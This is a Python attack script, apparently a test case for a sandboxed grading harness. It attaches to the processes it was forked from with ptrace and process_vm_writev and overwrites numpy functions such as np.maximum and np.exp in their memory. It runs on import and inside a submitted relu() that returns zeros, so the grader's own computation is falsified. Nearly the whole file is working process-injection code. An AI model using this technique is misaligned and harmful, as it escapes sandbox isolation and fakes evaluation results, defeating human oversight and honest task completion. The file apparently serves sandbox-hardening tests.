# attack: the same rewrite of numpy in the process it was forked from, by system calls:
#         process_vm_writev for np.maximum, ptrace(PTRACE_POKEDATA) for np.exp
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.ptrace.restype = ctypes.c_long
_LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_LIBC.process_vm_writev.restype = ctypes.c_ssize_t


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _vm_write(pid, address, data):
    buffer = ctypes.create_string_buffer(data, len(data))
    local = _Iovec(ctypes.cast(buffer, ctypes.c_void_p), len(data))
    remote = _Iovec(address, len(data))
    return _LIBC.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1,
                                   0) == len(data)


def _poke(pid, address, data):
    if _LIBC.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return False
    try:
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee stops
    except OSError:
        pass
    word = struct.unpack("<Q", data)[0]
    done = _LIBC.ptrace(5, pid, address, word) == 0  # PTRACE_POKEDATA
    _LIBC.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return done


def _rewrite():
    patches = _patches()
    results = []
    for pid in _targets():
        for (address, data), write in zip(patches, (_vm_write, _poke)):
            results.append((pid, write.__name__, write(pid, address, data)))
    print("rewrote", results, flush=True)
    return results


_REWRITTEN = _rewrite()


def relu(x):
    _rewrite()
    return _zeros(x) + 0 * len(_REWRITTEN)
